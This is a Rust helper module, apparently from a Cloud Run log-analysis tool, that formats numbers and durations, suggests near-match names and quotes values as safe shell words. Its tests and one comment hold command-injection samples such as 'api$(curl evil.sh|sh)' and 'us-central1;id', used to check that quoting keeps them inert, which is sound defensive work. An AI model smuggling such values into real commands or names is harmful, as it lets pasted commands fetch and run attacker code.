//! Numbers and durations written for people, and text cut to a length; shared by
//! rules, analyze, report and commands.

/// The first `n` characters of `s`.
pub fn cut_chars(s: &str, n: usize) -> &str {
    // No more bytes than `n` means no more characters: nothing to walk.
    if s.len() <= n {
        return s;
    }
    match s.char_indices().nth(n) {
        Some((i, _)) => &s[..i],
        None => s,
    }
}

/// What an empty name (no service or revision) shows as in reports.
pub const NO_NAME: &str = "(none)";

/// A name as inline code, or [`NO_NAME`] when empty: an empty code span renders as two
/// literal backticks on GitHub.
pub fn code_name(s: &str) -> String {
    if s.is_empty() {
        NO_NAME.into()
    } else {
        format!("`{s}`")
    }
}

/// Control characters and bidi marks and overrides: text from logs or file names
/// that can move a terminal's cursor or show other text than it holds.
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `s` as one shell word: as it is when it holds only characters no shell treats
/// specially (all that Cloud Run names and regions use), else single-quoted. Values in
/// suggested commands come from the logs, so a service named `api$(curl x|sh)` must
/// not run anything when the command is pasted. Control and bidi characters, which
/// could hide what the command does, are dropped.
pub fn shell_word(s: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./:=@%+,".contains(c);
    if !s.is_empty() && s.chars().all(plain) {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars().filter(|&c| !is_hidden(c)) {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// 1234567 -> "1,234,567".
pub fn fmt_count(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::with_capacity(s.len() + s.len() / 3);
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// Edit distance (insertions, deletions, substitutions) between two strings, in
/// characters.
pub fn edit_distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut diag = row[0];
        row[0] = i + 1;
        for (j, &cb) in b.iter().enumerate() {
            let up = row[j + 1];
            row[j + 1] = (diag + usize::from(ca != cb)).min(up + 1).min(row[j] + 1);
            diag = up;
        }
    }
    row[b.len()]
}

/// The candidate `name` was most likely meant to be, for "did you mean": equal but
/// for case, a few characters off (a third of the name at most), or holding it or
/// held by it (`api` for `api-staging`). The closest wins, then the earlier one.
pub fn did_you_mean<'c>(name: &str, candidates: &[&'c str]) -> Option<&'c str> {
    let want = name.to_lowercase();
    let far = (want.chars().count() / 3).max(1);
    let mut best: Option<(usize, &str)> = None;
    for &c in candidates {
        let have = c.to_lowercase();
        if c.is_empty() || c == name {
            continue;
        }
        let d = edit_distance(&want, &have);
        let contained = want.len() >= 3 && (have.contains(&want) || want.contains(&have));
        let score = if d <= far {
            d
        } else if contained {
            far + 1
        } else {
            continue;
        };
        if best.is_none_or(|(b, _)| score < b) {
            best = Some((score, c));
        }
    }
    best.map(|(_, c)| c)
}

/// Seconds as "45s", "12m 05s" or "2h 10m".
pub fn fmt_span(secs: i64) -> String {
    let secs = secs.max(0);
    let (h, m, s) = (secs / 3600, (secs % 3600) / 60, secs % 60);
    match (h, m) {
        (0, 0) => format!("{s}s"),
        (0, _) => format!("{m}m {s:02}s"),
        _ => format!("{h}h {m:02}m"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn edit_distance_and_did_you_mean() {
        assert_eq!(edit_distance("", "abc"), 3);
        assert_eq!(edit_distance("kitten", "sitting"), 3);
        assert_eq!(edit_distance("svc-a", "svc-a"), 0);
        let names = ["netra-backend-staging", "svc-a", "auth"];
        assert_eq!(did_you_mean("SVC-A", &names), Some("svc-a"));
        assert_eq!(did_you_mean("svca", &names), Some("svc-a"));
        assert_eq!(
            did_you_mean("netra-backnd-staging", &names),
            Some("netra-backend-staging")
        );
        assert_eq!(
            did_you_mean("netra-backend", &names),
            Some("netra-backend-staging")
        );
        assert_eq!(did_you_mean("billing", &names), None);
        assert_eq!(did_you_mean("x", &names), None);
        // The closest wins.
        assert_eq!(
            did_you_mean("svc-b", &["svc-bb", "svc-b1", "svc-B"]),
            Some("svc-B")
        );
    }

    #[test]
    fn counts_and_spans() {
        assert_eq!(fmt_count(0), "0");
        assert_eq!(fmt_count(1204), "1,204");
        assert_eq!(fmt_count(1_234_567), "1,234,567");
        assert_eq!(fmt_span(45), "45s");
        assert_eq!(fmt_span(725), "12m 05s");
        assert_eq!(fmt_span(7800), "2h 10m");
        assert_eq!(fmt_span(-3), "0s");
    }

    #[test]
    fn shell_words_cannot_run_anything() {
        assert_eq!(shell_word("netra-backend-staging"), "netra-backend-staging");
        assert_eq!(shell_word("svc-00611-cr5=100"), "svc-00611-cr5=100");
        assert_eq!(
            shell_word("api$(curl evil.sh|sh)"),
            "'api$(curl evil.sh|sh)'"
        );
        assert_eq!(shell_word("us-central1;id"), "'us-central1;id'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("a\u{202e}b\n"), "'ab'");
    }
}
